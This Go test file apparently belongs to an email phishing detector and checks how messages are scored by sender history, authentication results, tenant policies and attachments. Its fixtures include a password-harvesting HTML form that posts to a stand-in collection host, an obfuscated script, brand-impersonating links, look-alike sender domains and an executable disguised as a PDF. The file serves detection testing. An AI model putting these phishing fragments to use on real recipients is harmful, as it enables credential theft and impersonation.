package score

import (
	"strings"
	"testing"

	"clawback/config"
	"clawback/internal/test/mailgen"
	"clawback/verdict"
	"clawback/verdict/history"
)

// sealed is a message with a page that asks for a password, and a link that bears a brand's name: MALICIOUS from
// anybody.
func sealed(change string) string {
	return attached(change, "You have received a secure message.\nhttps://paypal-help.example/x?u=bob.field@contoso.example", "securedoc.html", "text/html",
		[]byte(`<html><form action="https://collect.example/x"><input type="password" name="pw"></form><script>document.write(atob("x"))</script></html>`))
}

func TestReview_whatAPersonDecides(t *testing.T) {
	const answer = "In-Reply-To: <1@contoso.example>\nSubject: Re: your loan\n"
	began := history.Entry{Key: history.From("ann@sender.example"), Sent: 1, Began: 1}
	answered := history.Entry{Key: history.From("ann@sender.example"), Sent: 9, SentDays: 511}
	for name, c := range map[string]struct {
		text    string
		options Options
		known   []history.Entry
		want    verdict.Disposition
		review  verdict.Review
	}{
		"a stranger's":                            {sealed(""), Options{}, nil, verdict.Malicious, ""},
		"a stranger's, as an answer":              {sealed(answer), Options{}, nil, verdict.Malicious, ""},
		"an answer to what our people began":      {sealed(answer), Options{}, []history.Entry{began}, verdict.Suspicious, verdict.ReviewConversation},
		"no answer, from one they wrote to first": {sealed(""), Options{}, []history.Entry{began}, verdict.Malicious, ""},
		"an answer to what he began":              {sealed(answer), Options{}, []history.Entry{answered}, verdict.Malicious, ""},
		"an answer in his name, unproven":         {sealed(answer + unsigned), Options{}, []history.Entry{began}, verdict.Malicious, ""},
		"an answer in his name, DMARC failed": {sealed(answer + "Authentication-Results: spf=pass smtp.mailfrom=sender.example; dkim=none;dmarc=fail header.from=sender.example"), Options{},
			[]history.Entry{began}, verdict.Malicious, ""},
		"an answer that leads elsewhere": {sealed(answer + "Reply-To: eve@gmail.com\n"), Options{},
			[]history.Entry{{Key: began.Key, Sent: 1, Began: 1, Received: 5, Aligned: 5}}, verdict.Malicious, ""},
		"an answer with a program under a document's name": {attached(answer, "See the file.", "a.pdf", "application/pdf", []byte("MZ\x90\x00"+strings.Repeat("\x00", 300)+"PE\x00\x00")), Options{},
			[]history.Entry{began}, verdict.Malicious, ""},
		"a service for sealed mail": {sealed("From: Secure <no-reply@zixmessagecenter.com>\nAuthentication-Results: spf=pass smtp.mailfrom=zixmessagecenter.com; dkim=pass header.d=zixmessagecenter.com;dmarc=pass header.from=zixmessagecenter.com"),
			Options{}, nil, verdict.Suspicious, verdict.ReviewEnvelope},
		"one in such a service's name": {sealed("From: Secure <no-reply@zixmessagecenter.com>\nAuthentication-Results: spf=none smtp.mailfrom=evil.example; dkim=none;dmarc=fail header.from=zixmessagecenter.com"),
			Options{}, nil, verdict.Malicious, ""},
		"one of a name like such a service's": {sealed("From: Secure <no-reply@zixmessagecenter.com.evil.example>"), Options{}, nil, verdict.Malicious, ""},
		"a harmless answer":                   {vary(answer), Options{}, []history.Entry{began}, verdict.Clean, ""},
	} {
		m := of(c.text)
		m.History = entries(c.known...)
		r := runWith(t, scorer(t, c.options), m)
		if r.Disposition != c.want || r.Review != c.review {
			t.Errorf("%s: %v, review %q; want %v, %q: %s", name, r.Disposition, r.Review, c.want, c.review, summary(r))
		}
		if has(r, "review."+string(c.review)) != (c.review != "") {
			t.Errorf("%s: the reasons do not say why a person must decide: %s", name, summary(r))
		}
	}
}

// Policies come after: what is allowed or blocked needs nobody's review.
func TestReview_policiesDecide(t *testing.T) {
	began := history.Entry{Key: history.From("ann@sender.example"), Sent: 1, Began: 1}
	for kind, want := range map[string]verdict.Disposition{"trust_sender": verdict.Clean, "block_sender": verdict.Malicious} {
		tenant := mailgen.Tenant()
		tenant.Policies = []config.Policy{{Kind: kind, Pattern: "@sender.example"}}
		m := of(sealed("In-Reply-To: <1@contoso.example>"))
		m.Tenant, m.History = tenant, entries(began)
		if r := runWith(t, scorer(t, Options{}), m); r.Disposition != want || r.Review != "" {
			t.Errorf("%s: %v, review %q", kind, r.Disposition, r.Review)
		}
	}
}

// A page and the links in it are one file, and one witness; a page and a link beside it are two.
func TestDecide_oneFileIsOneWitness(t *testing.T) {
	s := scorer(t, Options{})
	const login = `<html><form action="https://collect.example/x"><input type="password"></form><script>document.write(atob("x"))</script>`
	const bad = `https://paypal-help.example/x?u=bob.field@contoso.example`
	file := func(text, body string) string {
		return attached("", text, "page.html", "text/html", []byte(body+"</html>"))
	}
	for name, c := range map[string]struct {
		text string
		want verdict.Disposition
	}{
		"a page that asks for a password":        {file("See the file.", login), verdict.Suspicious},
		"with a bad link in it":                  {file("See the file.", login+`<a href="`+bad+`">x</a>`), verdict.Suspicious},
		"with a brand's pictures in it":          {file("See the file.", login+`<a href="`+bad+`">x</a><img src="https://www.rabobank.nl/x.png" width=200 height=99>`), verdict.Suspicious},
		"with a bad link beside it":              {file("See the file or "+bad, login), verdict.Malicious},
		"with a bad link in it and beside it":    {file("See the file or "+bad, login+`<a href="`+bad+`">x</a>`), verdict.Malicious},
		"with a bad link in it, and words":       {file("Your password expires today. Verify your account within 24 hours, or your account will be suspended.", login+`<a href="`+bad+`">x</a>`), verdict.Malicious},
		"a QR code alone":                        {attached("", "Scan it.", "code.png", "image/png", mailgen.QR(bad)), verdict.Suspicious},
		"a registered envelope's page":           {file("Open the file.\nRegister: https://res.cisco.com/websafe/register?email=bob.field@contoso.example", login+`<a href="https://res.cisco.com/websafe/register?email=bob.field@contoso.example">Register</a>`), verdict.Suspicious},
		"one that knows the recipient elsewhere": {file("Open the file.\nRegister: https://res.cisco.com.evil.example/register?email=bob.field@contoso.example", login), verdict.Malicious},
	} {
		if r := run(t, s, c.text); r.Disposition != c.want {
			t.Errorf("%s: %v, want %v: %s", name, r.Disposition, c.want, summary(r))
		}
	}
}
